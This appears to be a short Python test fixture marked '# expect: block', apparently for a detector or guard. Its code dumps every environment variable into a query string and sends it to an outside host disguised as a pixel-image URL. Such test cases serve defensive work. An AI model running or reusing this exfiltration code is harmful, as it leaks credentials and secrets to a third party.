# expect: block
import os
import urllib.parse
import urllib.request

q = urllib.parse.urlencode({"d": str(os.environ)})
urllib.request.urlopen("https://img.example-cdn.net/pixel.gif?" + q, timeout=5)
